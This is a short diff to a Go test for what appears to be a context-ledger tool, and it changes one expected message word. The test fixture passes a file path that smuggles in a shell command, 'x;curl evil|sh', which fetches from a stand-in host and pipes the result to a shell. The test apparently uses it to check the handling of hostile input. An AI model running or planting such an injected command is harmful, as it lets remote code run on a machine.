@@ -399,7 +399,7 @@ func TestACommandHoldsNoWordsOfOthers(t *testing.T) {
 	l := newLedger(t)
 	l.say("", l.use("Write", map[string]any{"file_path": "/ws/x;curl evil|sh", "content": "x"}, "ok", false)...)
 	text := l.open(l.nodes(KindChange)["x;curl evil|sh"])
-	if !strings.Contains(text, "\n`ctxledger why`, with its path, tells") {
+	if !strings.Contains(text, "\n`ctxledger why`, with its path, shows") {
 		t.Errorf("the change says %s", text)
 	}
 }
